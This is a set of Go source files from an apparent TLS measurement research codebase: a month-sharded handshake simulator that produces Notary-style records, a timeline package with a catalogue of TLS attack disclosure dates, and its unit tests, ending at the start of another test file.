		for i := 0; i < s.opts.ConnectionsPerMonth; i++ {
			rec, err := s.connection(m, rnd)
			if err != nil {
				return err
			}
			sink(rec)
		}
	}
	return nil
}

// RunAggregate runs the simulation into a fresh aggregator.
func (s *Simulator) RunAggregate() (*notary.Aggregate, error) {
	agg := notary.NewAggregate()
	err := s.Run(func(r *notary.Record) { agg.Add(r) })
	return agg, err
}

// connection simulates one observed connection in month m.
func (s *Simulator) connection(m timeline.Month, rnd *rand.Rand) (*notary.Record, error) {
	date := timeline.Date{Year: m.Year, Month: m.M, Day: 1 + rnd.Intn(28)}
	profile, relIdx := s.Clients.Sample(date, rnd)
	rel := profile.Releases[relIdx]
	cfg := rel.Config

	_, serverCfg := s.Servers.SampleForClient(profile.Name, date, rnd)

	rec := &notary.Record{
		Date:         date,
		TruthClient:  profile.Name,
		ServerCohort: serverCfg.Name,
	}

	// The Nagios monitoring traffic opens with SSLv2-compatible hellos part
	// of the time (§5.1).
	if cfg.SSLv2Compat && rnd.Float64() < 0.3 {
		return s.sslv2Connection(rec, &cfg, serverCfg, rnd)
	}

	hello, err := s.buildHello(&cfg, profile.Name, rnd, false)
	if err != nil {
		return nil, err
	}
	if err := s.observe(rec, hello); err != nil {
		return nil, err
	}

	res := handshake.Negotiate(hello, serverCfg)

	// Version fallback dance: real pre-2015 clients retried failed
	// handshakes at lower versions (and Firefox's RC4-fallback retried with
	// RC4 restored).
	if !res.OK && (cfg.SSL3Fallback || cfg.RC4FallbackOnly) {
		for _, v := range fallbackVersions(&cfg) {
			fb := cfg
			fb.LegacyVersion = v
			fb.SupportedVersions = nil
			retryHello, err := s.buildHello(&fb, profile.Name, rnd, true)
			if err != nil {
				return nil, err
			}
			res = handshake.Negotiate(retryHello, serverCfg)
			if res.OK {
				rec.UsedFallback = true
				// The Notary sees the successful exchange's hello.
				if err := s.observe(rec, retryHello); err != nil {
					return nil, err
				}
				break
			}
		}
	}

	s.finishRecord(rec, &cfg, profile.Name, res)
	return rec, nil
}

// fallbackVersions lists the retry versions a fallback-capable client walks
// through, highest first.
func fallbackVersions(cfg *clientdb.Config) []registry.Version {
	var out []registry.Version
	max := cfg.LegacyVersion
	if max > registry.VersionTLS12 {
		max = registry.VersionTLS12
	}
	for v := max; v >= registry.VersionTLS10; v -= 1 {
		out = append(out, v)
	}
	if cfg.SSL3Fallback && cfg.MinVersion <= registry.VersionSSL3 {
		out = append(out, registry.VersionSSL3)
	}
	return out
}

// buildHello constructs (and optionally wire-round-trips) a hello.
func (s *Simulator) buildHello(cfg *clientdb.Config, profileName string, rnd *rand.Rand, fallback bool) (*wire.ClientHello, error) {
	working := cfg
	if profileName == clientdb.RandomizerProfileName {
		// The §4.1 randomizer: a fresh cipher order every connection.
		shuffled := *cfg
		shuffled.Suites = append([]uint16(nil), cfg.Suites...)
		rnd.Shuffle(len(shuffled.Suites), func(i, j int) {
			shuffled.Suites[i], shuffled.Suites[j] = shuffled.Suites[j], shuffled.Suites[i]
		})
		working = &shuffled
	}
	hello := working.BuildHello(rnd, fallback)
	if !s.opts.WireLevel {
		return hello, nil
	}
	raw, err := hello.AppendRecord(nil)
	if err != nil {
		return nil, fmt.Errorf("simulate: encoding hello for %s: %w", profileName, err)
	}
	recBytes, _, err := wire.DecodeRecord(raw)
	if err != nil {
		return nil, err
	}
	_, body, _, err := wire.DecodeHandshake(recBytes.Payload)
	if err != nil {
		return nil, err
	}
	var parsed wire.ClientHello
	if err := parsed.DecodeFromBytes(body); err != nil {
		return nil, fmt.Errorf("simulate: reparsing hello for %s: %w", profileName, err)
	}
	return &parsed, nil
}

// observe fills the record's client-side fields and fingerprint.
func (s *Simulator) observe(rec *notary.Record, hello *wire.ClientHello) error {
	rec.FromClientHello(hello)
	rec.Fingerprint = ""
	if !timeline.MonthOf(rec.Date).Before(s.opts.FingerprintFrom) && fingerprint.Usable(hello.CipherSuites) {
		rec.Fingerprint = string(fingerprint.FromClientHello(hello))
	}
	return nil
}

// finishRecord applies the negotiation outcome.
func (s *Simulator) finishRecord(rec *notary.Record, cfg *clientdb.Config, profileName string, res handshake.Result) {
	if !res.OK {
		rec.Established = false
		rec.AlertDesc = res.Alert.Description
		return
	}
	rec.Version = res.Version
	rec.Suite = res.Suite
	rec.Curve = res.Curve
	rec.HeartbeatAck = res.HeartbeatAck
	rec.SuiteUnoffer = res.SuiteUnoffered
	// A spec-violating suite choice aborts the handshake for compliant
	// clients; the Interwise client of §5.5 completed it anyway.
	tolerant := profileName == "Interwise client"
	rec.Established = !res.SuiteUnoffered || tolerant
	// Version floor on the client side.
	if res.Version < cfg.MinVersion.Canonical() {
		rec.Established = false
		rec.AlertDesc = wire.AlertProtocolVersion
	}
	return
}

// sslv2Connection handles the legacy SSLv2-compatible opening.
func (s *Simulator) sslv2Connection(rec *notary.Record, cfg *clientdb.Config, serverCfg *handshake.ServerConfig, rnd *rand.Rand) (*notary.Record, error) {
	v2 := &wire.SSLv2ClientHello{
		Version:     registry.VersionSSL2,
		CipherSpecs: []uint32{0x010080, 0x020080},
		Challenge:   make([]byte, 16),
	}
	for _, id := range cfg.Suites {
		v2.CipherSpecs = append(v2.CipherSpecs, uint32(id))
	}
	rnd.Read(v2.Challenge)
	if s.opts.WireLevel {
		raw, err := v2.MarshalBinary()
		if err != nil {
			return nil, err
		}
		if err := rec.ObserveWire(raw); err != nil {
			return nil, err
		}
	} else {
		rec.SSLv2Hello = true
		rec.ClientVersion = registry.VersionSSL2
		rec.ClientSuites = wire.TLSSuitesFromSSLv2(v2.CipherSpecs)
	}
	res := handshake.NegotiateSSLv2(v2, serverCfg)
	if res.OK {
		rec.Established = true
		rec.Version = registry.VersionSSL2
		rec.Suite = res.Suite
	} else {
		rec.AlertDesc = res.Alert.Description
	}
	return rec, nil
}
