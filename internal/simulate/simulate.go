// Package simulate synthesizes the study's passive dataset: month by month
// it draws (client, server) pairs from the population models, runs their
// handshakes through the real wire codec and negotiation engine, and emits
// Notary records. Every figure of the paper is then a query over the
// resulting aggregate.
//
// The simulator is fully deterministic for a given seed and performs the
// version-fallback dance real clients performed (the POODLE precondition):
// on a failed handshake a fallback-capable client retries with progressively
// lower versions, marking retries with TLS_FALLBACK_SCSV when it supports
// RFC 7507.
//
// The study window is sharded by month across a worker pool: every month
// draws from its own RNG stream derived from the seed, so the dataset is
// identical for every worker count — including the sequential path — and
// shards can be simulated concurrently and merged.
package simulate

import (
	"fmt"
	"math/rand"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"tlsage/internal/clientdb"
	"tlsage/internal/fingerprint"
	"tlsage/internal/handshake"
	"tlsage/internal/notary"
	"tlsage/internal/population"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
	"tlsage/internal/wire"
)

// Options configures a simulation run.
type Options struct {
	// Seed drives all randomness; equal seeds give identical datasets.
	Seed int64
	// ConnectionsPerMonth is the sample size per calendar month.
	ConnectionsPerMonth int
	// Start and End bound the simulated window (inclusive). Zero values
	// default to the study window (Feb 2012 – Apr 2018).
	Start, End timeline.Month
	// WireLevel round-trips every hello through the binary codec, exactly as
	// the Notary would observe it. Disabling it is the struct-only ablation.
	WireLevel bool
	// FingerprintFrom is the month fingerprinting fields become available
	// (the Notary gained them in February 2014, §4.0.1). Records before it
	// carry no fingerprint.
	FingerprintFrom timeline.Month
	// Workers bounds how many months are simulated concurrently. 0 means
	// GOMAXPROCS; 1 forces the sequential path. The generated dataset is
	// identical for every value: each month has its own seed-derived RNG
	// stream regardless of which worker runs it.
	Workers int
}

// DefaultOptions returns the study configuration at the given sampling rate.
func DefaultOptions(connsPerMonth int) Options {
	return Options{
		Seed:                1,
		ConnectionsPerMonth: connsPerMonth,
		Start:               timeline.StudyStart,
		End:                 timeline.StudyEnd,
		WireLevel:           true,
		FingerprintFrom:     timeline.M(2014, time.February),
	}
}

// Simulator generates the passive dataset.
type Simulator struct {
	Clients *population.ClientPopulation
	Servers *population.ServerPopulation
	opts    Options
}

// New builds a simulator over the default populations.
func New(opts Options) *Simulator {
	if opts.Start == (timeline.Month{}) {
		opts.Start = timeline.StudyStart
	}
	if opts.End == (timeline.Month{}) {
		opts.End = timeline.StudyEnd
	}
	if opts.FingerprintFrom == (timeline.Month{}) {
		opts.FingerprintFrom = timeline.M(2014, time.February)
	}
	if opts.ConnectionsPerMonth <= 0 {
		opts.ConnectionsPerMonth = 1000
	}
	return &Simulator{
		Clients: population.DefaultClients(),
		Servers: population.DefaultServers(),
		opts:    opts,
	}
}

// Options returns the effective options.
func (s *Simulator) Options() Options { return s.opts }

// workerCount resolves Options.Workers against the month count.
func (s *Simulator) workerCount(months int) int {
	w := s.opts.Workers
	if w <= 0 {
		w = runtime.GOMAXPROCS(0)
	}
	if w > months {
		w = months
	}
	if w < 1 {
		w = 1
	}
	return w
}

// splitmix64 is the SplitMix64 finalizer, used to spread correlated
// (seed, month) pairs into independent RNG stream seeds.
func splitmix64(x uint64) uint64 {
	x += 0x9E3779B97F4A7C15
	x = (x ^ (x >> 30)) * 0xBF58476D1CE4E5B9
	x = (x ^ (x >> 27)) * 0x94D049BB133111EB
	return x ^ (x >> 31)
}

// monthRNG returns month m's dedicated RNG stream. Every month draws from
// its own stream, so the records of a month do not depend on which worker —
// or how many — simulated the months before it.
func (s *Simulator) monthRNG(m timeline.Month) *rand.Rand {
	seed := splitmix64(uint64(s.opts.Seed)) ^ splitmix64(uint64(m.Index()))
	return rand.New(rand.NewSource(int64(seed)))
}

// scratch is the per-worker reusable state: wire encode buffers and the
// randomizer shuffle buffer, reused across every connection the worker
// simulates. A scratch must not be shared between goroutines.
type scratch struct {
	enc    wire.HelloEncoder
	raw    []byte
	suites []uint16
}

// runMonth simulates one month's connections in order, invoking observe for
// each record. Records are leased from the notary pool; observe takes
// ownership and must release (or forward) them.
func (s *Simulator) runMonth(m timeline.Month, sc *scratch, observe func(*notary.Record) error) error {
	rnd := s.monthRNG(m)
	for i := 0; i < s.opts.ConnectionsPerMonth; i++ {
		rec, err := s.connection(m, rnd, sc)
		if err != nil {
			return err
		}
		if err := observe(rec); err != nil {
			return err
		}
	}
	return nil
}

// Run generates the dataset, delivering every record to sink in
// chronological-month order. With Workers > 1 months are simulated
// concurrently and delivered in order; Observe is always called from a
// single goroutine. Records are pooled: each is valid only for the duration
// of Observe (clone to retain). A sink error aborts the run. The sink is
// not closed — its owner is.
func (s *Simulator) Run(sink notary.Sink) error {
	months := timeline.MonthsBetween(s.opts.Start, s.opts.End)
	workers := s.workerCount(len(months))
	if workers <= 1 {
		var sc scratch
		deliver := func(r *notary.Record) error {
			err := sink.Observe(r)
			notary.ReleaseRecord(r)
			return err
		}
		for _, m := range months {
			if err := s.runMonth(m, &sc, deliver); err != nil {
				return err
			}
		}
		return nil
	}

	type monthOut struct {
		recs []*notary.Record
		err  error
	}
	outs := make([]chan monthOut, len(months))
	for i := range outs {
		outs[i] = make(chan monthOut, 1)
	}
	jobs := make(chan int)
	// sem bounds the months buffered ahead of the sink so a slow sink does
	// not force the whole dataset into memory.
	sem := make(chan struct{}, 2*workers)
	var aborted atomic.Bool
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var sc scratch
			for idx := range jobs {
				if aborted.Load() {
					outs[idx] <- monthOut{}
					continue
				}
				recs := make([]*notary.Record, 0, s.opts.ConnectionsPerMonth)
				err := s.runMonth(months[idx], &sc, func(r *notary.Record) error {
					recs = append(recs, r)
					return nil
				})
				if err != nil {
					aborted.Store(true)
				}
				outs[idx] <- monthOut{recs: recs, err: err}
			}
		}()
	}
	go func() {
		for i := range months {
			sem <- struct{}{}
			jobs <- i
		}
		close(jobs)
		wg.Wait()
	}()

	var firstErr error
	for i := range months {
		out := <-outs[i]
		if out.err != nil && firstErr == nil {
			firstErr = out.err
		}
		for _, rec := range out.recs {
			if firstErr == nil {
				if err := sink.Observe(rec); err != nil {
					firstErr = err
					aborted.Store(true)
				}
			}
			notary.ReleaseRecord(rec)
		}
		<-sem
	}
	return firstErr
}

// RunFunc runs the simulation into a plain per-record function — a
// convenience wrapper over Run for callers without sink state.
func (s *Simulator) RunFunc(fn func(*notary.Record)) error {
	return s.Run(notary.SinkFunc(func(r *notary.Record) error {
		fn(r)
		return nil
	}))
}

// RunAggregate runs the simulation into a fresh aggregator. With Workers > 1
// each worker accumulates its months into a private notary.Aggregate and the
// shards are merged; the result is identical to the sequential path.
func (s *Simulator) RunAggregate() (*notary.Aggregate, error) {
	months := timeline.MonthsBetween(s.opts.Start, s.opts.End)
	workers := s.workerCount(len(months))
	if workers <= 1 {
		agg := notary.NewAggregate()
		if err := s.Run(agg); err != nil {
			return nil, err
		}
		return agg, nil
	}

	aggs := make([]*notary.Aggregate, workers)
	errs := make([]error, workers)
	var next atomic.Int64
	var aborted atomic.Bool
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			agg := notary.NewAggregate()
			aggs[w] = agg
			var sc scratch
			observe := func(r *notary.Record) error {
				agg.Add(r)
				notary.ReleaseRecord(r)
				return nil
			}
			for {
				idx := int(next.Add(1)) - 1
				if idx >= len(months) || aborted.Load() {
					return
				}
				if err := s.runMonth(months[idx], &sc, observe); err != nil {
					errs[w] = err
					aborted.Store(true)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}
	agg := notary.NewAggregate()
	for _, shard := range aggs {
		agg.Merge(shard)
	}
	return agg, nil
}

// connection simulates one observed connection in month m. The returned
// record is leased from the notary pool; the caller owns it.
func (s *Simulator) connection(m timeline.Month, rnd *rand.Rand, sc *scratch) (*notary.Record, error) {
	date := timeline.Date{Year: m.Year, Month: m.M, Day: 1 + rnd.Intn(28)}
	profile, relIdx := s.Clients.Sample(date, rnd)
	rel := profile.Releases[relIdx]
	cfg := rel.Config

	_, serverCfg := s.Servers.SampleForClient(profile.Name, date, rnd)

	rec := notary.LeaseRecord()
	rec.Date = date
	rec.TruthClient = profile.Name
	rec.ServerCohort = serverCfg.Name

	// The Nagios monitoring traffic opens with SSLv2-compatible hellos part
	// of the time (§5.1).
	if cfg.SSLv2Compat && rnd.Float64() < 0.3 {
		out, err := s.sslv2Connection(rec, &cfg, serverCfg, rnd)
		if err != nil {
			notary.ReleaseRecord(rec)
			return nil, err
		}
		return out, nil
	}

	hello, err := s.buildHello(&cfg, profile.Name, rnd, sc, false)
	if err != nil {
		notary.ReleaseRecord(rec)
		return nil, err
	}
	if err := s.observe(rec, hello); err != nil {
		notary.ReleaseRecord(rec)
		return nil, err
	}

	res := handshake.Negotiate(hello, serverCfg)

	// Version fallback dance: real pre-2015 clients retried failed
	// handshakes at lower versions (and Firefox's RC4-fallback retried with
	// RC4 restored).
	if !res.OK && (cfg.SSL3Fallback || cfg.RC4FallbackOnly) {
		for _, v := range fallbackVersions(&cfg) {
			fb := cfg
			fb.LegacyVersion = v
			fb.SupportedVersions = nil
			retryHello, err := s.buildHello(&fb, profile.Name, rnd, sc, true)
			if err != nil {
				notary.ReleaseRecord(rec)
				return nil, err
			}
			res = handshake.Negotiate(retryHello, serverCfg)
			if res.OK {
				rec.UsedFallback = true
				// The Notary sees the successful exchange's hello.
				if err := s.observe(rec, retryHello); err != nil {
					notary.ReleaseRecord(rec)
					return nil, err
				}
				break
			}
		}
	}

	s.finishRecord(rec, &cfg, profile.Name, res)
	return rec, nil
}

// fallbackVersions lists the retry versions a fallback-capable client walks
// through, highest first. The slice is exactly sized up front — it is
// allocated on every failed handshake of a fallback-capable client.
func fallbackVersions(cfg *clientdb.Config) []registry.Version {
	max := cfg.LegacyVersion
	if max > registry.VersionTLS12 {
		max = registry.VersionTLS12
	}
	n := 0
	if max >= registry.VersionTLS10 {
		n = int(max-registry.VersionTLS10) + 1
	}
	ssl3 := cfg.SSL3Fallback && cfg.MinVersion <= registry.VersionSSL3
	if ssl3 {
		n++
	}
	if n == 0 {
		return nil
	}
	out := make([]registry.Version, 0, n)
	for v := max; v >= registry.VersionTLS10; v -= 1 {
		out = append(out, v)
	}
	if ssl3 {
		out = append(out, registry.VersionSSL3)
	}
	return out
}

// buildHello constructs (and optionally wire-round-trips) a hello, reusing
// sc's buffers for the shuffle copy and the encoded bytes.
func (s *Simulator) buildHello(cfg *clientdb.Config, profileName string, rnd *rand.Rand, sc *scratch, fallback bool) (*wire.ClientHello, error) {
	working := cfg
	if profileName == clientdb.RandomizerProfileName {
		// The §4.1 randomizer: a fresh cipher order every connection.
		// BuildHello copies the list it is given, so the shuffle buffer can
		// be reused across connections.
		shuffled := *cfg
		shuffled.Suites = append(sc.suites[:0], cfg.Suites...)
		sc.suites = shuffled.Suites
		rnd.Shuffle(len(shuffled.Suites), func(i, j int) {
			shuffled.Suites[i], shuffled.Suites[j] = shuffled.Suites[j], shuffled.Suites[i]
		})
		working = &shuffled
	}
	hello := working.BuildHello(rnd, fallback)
	if !s.opts.WireLevel {
		return hello, nil
	}
	raw, err := sc.enc.AppendRecord(hello, sc.raw[:0])
	if err != nil {
		return nil, fmt.Errorf("simulate: encoding hello for %s: %w", profileName, err)
	}
	sc.raw = raw
	recBytes, _, err := wire.DecodeRecord(raw)
	if err != nil {
		return nil, err
	}
	_, body, _, err := wire.DecodeHandshake(recBytes.Payload)
	if err != nil {
		return nil, err
	}
	// The parsed hello copies everything out of the scratch buffer, so the
	// buffer is free for the next connection.
	var parsed wire.ClientHello
	if err := parsed.DecodeFromBytes(body); err != nil {
		return nil, fmt.Errorf("simulate: reparsing hello for %s: %w", profileName, err)
	}
	return &parsed, nil
}

// observe fills the record's client-side fields and fingerprint.
func (s *Simulator) observe(rec *notary.Record, hello *wire.ClientHello) error {
	rec.FromClientHello(hello)
	rec.Fingerprint = ""
	if !timeline.MonthOf(rec.Date).Before(s.opts.FingerprintFrom) && fingerprint.Usable(hello.CipherSuites) {
		rec.Fingerprint = string(fingerprint.FromClientHello(hello))
	}
	return nil
}

// finishRecord applies the negotiation outcome.
func (s *Simulator) finishRecord(rec *notary.Record, cfg *clientdb.Config, profileName string, res handshake.Result) {
	if !res.OK {
		rec.Established = false
		rec.AlertDesc = res.Alert.Description
		return
	}
	rec.Version = res.Version
	rec.Suite = res.Suite
	rec.Curve = res.Curve
	rec.HeartbeatAck = res.HeartbeatAck
	rec.SuiteUnoffer = res.SuiteUnoffered
	// A spec-violating suite choice aborts the handshake for compliant
	// clients; the Interwise client of §5.5 completed it anyway.
	tolerant := profileName == "Interwise client"
	rec.Established = !res.SuiteUnoffered || tolerant
	// Version floor on the client side.
	if res.Version < cfg.MinVersion.Canonical() {
		rec.Established = false
		rec.AlertDesc = wire.AlertProtocolVersion
	}
	return
}

// sslv2Connection handles the legacy SSLv2-compatible opening.
func (s *Simulator) sslv2Connection(rec *notary.Record, cfg *clientdb.Config, serverCfg *handshake.ServerConfig, rnd *rand.Rand) (*notary.Record, error) {
	v2 := &wire.SSLv2ClientHello{
		Version:     registry.VersionSSL2,
		CipherSpecs: []uint32{0x010080, 0x020080},
		Challenge:   make([]byte, 16),
	}
	for _, id := range cfg.Suites {
		v2.CipherSpecs = append(v2.CipherSpecs, uint32(id))
	}
	rnd.Read(v2.Challenge)
	if s.opts.WireLevel {
		raw, err := v2.MarshalBinary()
		if err != nil {
			return nil, err
		}
		if err := rec.ObserveWire(raw); err != nil {
			return nil, err
		}
	} else {
		rec.SSLv2Hello = true
		rec.ClientVersion = registry.VersionSSL2
		rec.ClientSuites = wire.TLSSuitesFromSSLv2(v2.CipherSpecs)
	}
	res := handshake.NegotiateSSLv2(v2, serverCfg)
	if res.OK {
		rec.Established = true
		rec.Version = registry.VersionSSL2
		rec.Suite = res.Suite
	} else {
		rec.AlertDesc = res.Alert.Description
	}
	return rec, nil
}
