package timeline

import "time"

// Event is a dated occurrence that shaped the TLS ecosystem: an attack
// disclosure, a revelation, an RFC, or a coordinated browser change. The
// population models consult these dates; the figure renderers draw them as
// the vertical lines of Figures 1, 2, 6 and 8.
type Event struct {
	Name string
	Date Date
	// Kind classifies the event for rendering and for model hooks.
	Kind EventKind
	// Note is a one-line description.
	Note string
}

// EventKind classifies events.
type EventKind uint8

// Event kinds.
const (
	KindAttack EventKind = iota
	KindRevelation
	KindStandard
	KindBrowserChange
)

// Canonical event names, usable as map keys into Events().
const (
	EventBEAST        = "BEAST"
	EventLucky13      = "Lucky13"
	EventRC4          = "RC4"
	EventSnowden      = "Snowden"
	EventHeartbleed   = "Heartbleed"
	EventPOODLE       = "POODLE"
	EventFREAK        = "FREAK"
	EventLogjam       = "Logjam"
	EventRC4Passwords = "RC4 passwords"
	EventRC4NoMore    = "RC4 no more"
	EventSweet32      = "Sweet32"
	EventRFC7465      = "RFC-7465"
)

// events is the master catalogue, ordered by date. Disclosure dates follow
// §2.2 of the paper verbatim.
var events = []Event{
	{EventBEAST, D(2011, time.September, 6), KindAttack, "CBC chosen-plaintext attack on TLS ≤1.0"},
	{EventLucky13, D(2012, time.December, 6), KindAttack, "CBC-mode timing attack"},
	{EventRC4, D(2013, time.March, 12), KindAttack, "AlFardan et al. RC4 biases"},
	{EventSnowden, D(2013, time.June, 6), KindRevelation, "mass-surveillance revelations; forward secrecy push"},
	{EventHeartbleed, D(2014, time.April, 7), KindAttack, "OpenSSL heartbeat buffer over-read (public disclosure)"},
	{EventPOODLE, D(2014, time.October, 14), KindAttack, "SSL 3 CBC padding oracle via fallback"},
	{EventRFC7465, D(2015, time.February, 1), KindStandard, "RFC 7465 prohibits RC4"},
	{EventFREAK, D(2015, time.March, 3), KindAttack, "export-RSA downgrade"},
	{EventRC4Passwords, D(2015, time.March, 26), KindAttack, "Garman et al. password-recovery attacks on RC4"},
	{EventLogjam, D(2015, time.May, 20), KindAttack, "export-DHE downgrade"},
	{EventRC4NoMore, D(2015, time.July, 15), KindAttack, "Vanhoef & Piessens RC4 NOMORE"},
	{EventSweet32, D(2016, time.August, 31), KindAttack, "64-bit block birthday attack (DES/3DES)"},
}

// Events returns the full catalogue in chronological order. The slice is a
// copy.
func Events() []Event {
	out := make([]Event, len(events))
	copy(out, events)
	return out
}

// EventDate looks up an event date by canonical name; ok is false when the
// name is unknown.
func EventDate(name string) (Date, bool) {
	for _, e := range events {
		if e.Name == name {
			return e.Date, true
		}
	}
	return Date{}, false
}

// MustEventDate looks up an event date and panics on unknown names; for use
// in static model tables.
func MustEventDate(name string) Date {
	d, ok := EventDate(name)
	if !ok {
		panic("timeline: unknown event " + name)
	}
	return d
}

// EventsBefore returns all events dated strictly before d.
func EventsBefore(d Date) []Event {
	var out []Event
	for _, e := range events {
		if e.Date.Before(d) {
			out = append(out, e)
		}
	}
	return out
}
