// Package timeline provides the study's notion of time: civil dates and
// months with no wall-clock dependence, the Feb 2012 – Apr 2018 observation
// window, and the catalogue of TLS attack disclosures and ecosystem events
// (§2.2 of the paper) that drive the population models.
package timeline

import (
	"fmt"
	"time"
)

// Date is a civil calendar date. The zero value is invalid.
type Date struct {
	Year  int
	Month time.Month
	Day   int
}

// D is shorthand for constructing a Date.
func D(year int, month time.Month, day int) Date { return Date{year, month, day} }

// String renders the date as YYYY-MM-DD.
func (d Date) String() string { return fmt.Sprintf("%04d-%02d-%02d", d.Year, d.Month, d.Day) }

// Time converts to a time.Time at midnight UTC.
func (d Date) Time() time.Time {
	return time.Date(d.Year, d.Month, d.Day, 0, 0, 0, 0, time.UTC)
}

// Before reports whether d is strictly before other.
func (d Date) Before(other Date) bool {
	if d.Year != other.Year {
		return d.Year < other.Year
	}
	if d.Month != other.Month {
		return d.Month < other.Month
	}
	return d.Day < other.Day
}

// After reports whether d is strictly after other.
func (d Date) After(other Date) bool { return other.Before(d) }

// AtOrAfter reports whether d is on or after other.
func (d Date) AtOrAfter(other Date) bool { return !d.Before(other) }

// DaysSince returns the (possibly negative) number of days from other to d.
func (d Date) DaysSince(other Date) int {
	return int(d.Time().Sub(other.Time()) / (24 * time.Hour))
}

// Month identifies one calendar month, the aggregation granularity of every
// figure in the paper.
type Month struct {
	Year int
	M    time.Month
}

// M is shorthand for constructing a Month.
func M(year int, month time.Month) Month { return Month{year, month} }

// MonthOf returns the month containing d.
func MonthOf(d Date) Month { return Month{d.Year, d.Month} }

// String renders the month as YYYY-MM.
func (m Month) String() string { return fmt.Sprintf("%04d-%02d", m.Year, m.M) }

// Start returns the first day of the month.
func (m Month) Start() Date { return Date{m.Year, m.M, 1} }

// Mid returns the 15th, used as the representative sampling date of a month.
func (m Month) Mid() Date { return Date{m.Year, m.M, 15} }

// Next returns the following month.
func (m Month) Next() Month {
	if m.M == time.December {
		return Month{m.Year + 1, time.January}
	}
	return Month{m.Year, m.M + 1}
}

// Index returns the number of months from Jan 0001, giving Months a total
// order usable as a slice index offset.
func (m Month) Index() int { return m.Year*12 + int(m.M) - 1 }

// Before reports whether m is strictly before other.
func (m Month) Before(other Month) bool { return m.Index() < other.Index() }

// Sub returns the number of months from other to m.
func (m Month) Sub(other Month) int { return m.Index() - other.Index() }

// AddMonths returns the month n months after m (n may be negative).
func (m Month) AddMonths(n int) Month {
	idx := m.Index() + n
	return Month{idx / 12, time.Month(idx%12 + 1)}
}

// Study window bounds: the Notary collection runs February 2012 through
// April 2018 in the paper's figures.
var (
	StudyStart = M(2012, time.February)
	StudyEnd   = M(2018, time.April)
)

// MonthsBetween returns every month from first to last inclusive.
func MonthsBetween(first, last Month) []Month {
	if last.Before(first) {
		return nil
	}
	out := make([]Month, 0, last.Sub(first)+1)
	for m := first; !last.Before(m); m = m.Next() {
		out = append(out, m)
	}
	return out
}

// StudyMonths returns the full study window, month by month.
func StudyMonths() []Month { return MonthsBetween(StudyStart, StudyEnd) }
