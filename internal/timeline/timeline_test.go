package timeline

import (
	"testing"
	"testing/quick"
	"time"
)

func TestDateOrdering(t *testing.T) {
	a := D(2014, time.April, 7)
	b := D(2014, time.October, 14)
	if !a.Before(b) || b.Before(a) || !b.After(a) {
		t.Error("date ordering broken")
	}
	if a.Before(a) || !a.AtOrAfter(a) {
		t.Error("date self-comparison broken")
	}
	if got := b.DaysSince(a); got != 190 {
		t.Errorf("DaysSince = %d, want 190", got)
	}
}

func TestMonthArithmetic(t *testing.T) {
	m := M(2012, time.December)
	if m.Next() != M(2013, time.January) {
		t.Error("Next across year boundary")
	}
	if m.AddMonths(14) != M(2014, time.February) {
		t.Errorf("AddMonths(14) = %v", m.AddMonths(14))
	}
	if m.AddMonths(-12) != M(2011, time.December) {
		t.Errorf("AddMonths(-12) = %v", m.AddMonths(-12))
	}
	if M(2018, time.April).Sub(M(2012, time.February)) != 74 {
		t.Error("study window should span 74 month-steps")
	}
}

func TestMonthAddSubProperty(t *testing.T) {
	f := func(y uint8, mo uint8, n int16) bool {
		m := M(2000+int(y%30), time.Month(mo%12)+1)
		shifted := m.AddMonths(int(n))
		return shifted.Sub(m) == int(n) && shifted.AddMonths(-int(n)) == m
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestStudyMonths(t *testing.T) {
	months := StudyMonths()
	if len(months) != 75 {
		t.Fatalf("study window = %d months, want 75 (Feb 2012 .. Apr 2018)", len(months))
	}
	if months[0] != StudyStart || months[len(months)-1] != StudyEnd {
		t.Error("study window endpoints wrong")
	}
	for i := 1; i < len(months); i++ {
		if months[i].Sub(months[i-1]) != 1 {
			t.Fatal("non-contiguous study months")
		}
	}
}

func TestMonthsBetweenEmpty(t *testing.T) {
	if got := MonthsBetween(M(2018, time.April), M(2012, time.February)); got != nil {
		t.Error("reversed range should be empty")
	}
}

func TestMonthOfAndStrings(t *testing.T) {
	d := D(2015, time.March, 3)
	if MonthOf(d) != M(2015, time.March) {
		t.Error("MonthOf broken")
	}
	if d.String() != "2015-03-03" {
		t.Errorf("Date.String = %s", d)
	}
	if MonthOf(d).String() != "2015-03" {
		t.Errorf("Month.String = %s", MonthOf(d))
	}
	if MonthOf(d).Mid().Day != 15 || MonthOf(d).Start().Day != 1 {
		t.Error("Mid/Start days wrong")
	}
}

func TestEventCatalogue(t *testing.T) {
	evs := Events()
	if len(evs) < 10 {
		t.Fatalf("expected ≥10 events, got %d", len(evs))
	}
	for i := 1; i < len(evs); i++ {
		if evs[i].Date.Before(evs[i-1].Date) {
			t.Errorf("events out of order: %s before %s", evs[i].Name, evs[i-1].Name)
		}
	}
	// Disclosure dates from §2.2.
	checks := map[string]Date{
		EventBEAST:      D(2011, time.September, 6),
		EventLucky13:    D(2012, time.December, 6),
		EventRC4:        D(2013, time.March, 12),
		EventPOODLE:     D(2014, time.October, 14),
		EventFREAK:      D(2015, time.March, 3),
		EventLogjam:     D(2015, time.May, 20),
		EventSweet32:    D(2016, time.August, 31),
		EventHeartbleed: D(2014, time.April, 7),
	}
	for name, want := range checks {
		got, ok := EventDate(name)
		if !ok || got != want {
			t.Errorf("EventDate(%s) = %v,%v want %v", name, got, ok, want)
		}
	}
	if _, ok := EventDate("nonexistent"); ok {
		t.Error("unknown event found")
	}
}

func TestEventsBefore(t *testing.T) {
	pre2014 := EventsBefore(D(2014, time.January, 1))
	for _, e := range pre2014 {
		if !e.Date.Before(D(2014, time.January, 1)) {
			t.Errorf("event %s not before 2014", e.Name)
		}
	}
	if len(pre2014) != 4 { // BEAST, Lucky13, RC4, Snowden
		t.Errorf("EventsBefore(2014) = %d events, want 4", len(pre2014))
	}
}

func TestMustEventDatePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustEventDate should panic on unknown event")
		}
	}()
	MustEventDate("nope")
}
