package federation

import (
	"bytes"
	"reflect"
	"testing"
	"time"

	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// buildAggregate populates an aggregate with deterministic pre-aggregated
